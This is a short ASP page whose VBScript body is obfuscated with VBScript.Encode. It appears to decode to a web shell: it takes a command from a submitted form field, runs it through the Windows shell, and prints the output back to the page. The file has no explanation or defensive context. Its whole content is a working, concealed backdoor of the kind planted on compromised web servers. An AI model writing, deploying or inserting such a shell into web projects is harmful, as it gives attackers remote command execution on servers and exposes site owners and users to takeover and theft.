<%@ LANGUAGE = VBScript.Encode %>
<%#@~^uQAAAA==9b:~1@&1P',I5E/ORwW.hvJmrb@&&0P1~@!@*,JrPPtnU@&P~?OPkPx~U+D-nMR/DCD+6(LmYvJqjmMk2Yc?4n^VJ*@&P,I+k2Gxk+c.kOn,J@!wMn@*rP'~kR2an1`Ems[,z^,J,[P1#cjY9r;YcInC9bV^~[,J@!J2.+@*J@&2UN~(6@&PzMAAA==^#~@%>
